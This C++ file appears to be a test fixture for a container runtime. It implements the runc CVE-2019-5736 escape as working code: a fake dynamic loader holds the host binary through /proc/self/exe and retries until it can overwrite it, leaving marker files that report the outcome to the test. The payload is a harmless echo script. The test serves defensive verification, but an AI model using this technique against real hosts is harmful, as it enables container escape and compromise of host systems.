// exe_attacker: the runc CVE-2019-5736 attack, as a container would mount it.
// Installed as a tree's dynamic loader (/lib64/ld-linux-x86-64.so.2) next to
// a /bin/true that is "#!/proc/self/exe": when a host process that runs a
// dynamically linked host binary (mctl, spawn) execs /bin/true inside the
// container, the kernel runs that host binary again with this loader. We
// then hold /proc/self/exe (the host binary), fork, let the entering process
// finish, and keep trying to open the binary for writing; once nothing runs
// it any more the write lands in the host's file. The process that holds
// the descriptor must not run the host binary itself (that keeps it busy):
// the forked writer execs this program again, as a plain program.
//
// Freestanding (no libc: a loader runs before any), x86_64 only. Markers in
// /var/tmp of the tree tell the test what happened: attack-started (we ran,
// holding the host binary), attack-wrote (the host binary was overwritten),
// attack-gave-up.
#if defined(__x86_64__)

namespace {

long sys(long n, long a = 0, long b = 0, long c = 0, long d = 0) {
    long ret;
    register long r10 asm("r10") = d;
    asm volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
}

constexpr long kWrite = 1, kOpen = 2, kClose = 3, kNanosleep = 35, kFork = 57, kExecve = 59, kExit = 60;
constexpr long kRdonly = 0, kWronly = 1, kCreat = 0100, kTrunc = 01000;

void mark(const char* path) {
    long fd = sys(kOpen, reinterpret_cast<long>(path), kWronly | kCreat | kTrunc, 0644);
    if (fd >= 0) sys(kClose, fd);
}

bool same(const char* a, const char* b) {
    while (*a && *a == *b) ++a, ++b;
    return *a == *b;
}

// The writer: retries opening the host binary (fd in argv[1]) for writing.
[[noreturn]] void writer(const char* fd) {
    char path[32] = "/proc/self/fd/";
    char* p = path + 14;
    while (*fd) *p++ = *fd++;
    *p = 0;
    static const char payload[] = "#!/bin/sh\necho overwritten by a container\n";
    struct { long sec, nsec; } ten_ms = {0, 10 * 1000 * 1000};
    for (int i = 0; i < 1000; ++i) {  // ~10 s
        long w = sys(kOpen, reinterpret_cast<long>(path), kWronly);
        if (w >= 0) {
            sys(kWrite, w, reinterpret_cast<long>(payload), sizeof payload - 1);
            sys(kClose, w);
            mark("/var/tmp/attack-wrote");
            sys(kExit, 0);
        }
        sys(kNanosleep, reinterpret_cast<long>(&ten_ms), 0);
    }
    mark("/var/tmp/attack-gave-up");
    sys(kExit, 0);
    __builtin_unreachable();
}

}  // namespace

// sp: the initial stack (argc, argv..., NULL, envp..., NULL).
extern "C" [[noreturn]] void attacker_main(long* sp) {
    char** argv = reinterpret_cast<char**>(sp + 1);
    if (sp[0] == 2 && same(argv[0], "writer")) writer(argv[1]);
    long exe = sys(kOpen, reinterpret_cast<long>("/proc/self/exe"), kRdonly);  // inherited across exec
    if (exe < 0 || exe > 9) sys(kExit, 0);
    mark("/var/tmp/attack-started");
    if (sys(kFork) != 0) sys(kExit, 0);  // let the entering process end
    char fd[2] = {static_cast<char>('0' + exe), 0};
    char name[] = "writer";
    char* args[] = {name, fd, nullptr};
    char* env[] = {nullptr};
    sys(kExecve, reinterpret_cast<long>("/lib64/ld-linux-x86-64.so.2"), reinterpret_cast<long>(args),
        reinterpret_cast<long>(env));
    sys(kExit, 1);
    __builtin_unreachable();
}

asm(".globl _start\n_start:\n  movq %rsp, %rdi\n  andq $-16, %rsp\n  call attacker_main\n");

#else
extern "C" void _start() {}
#endif
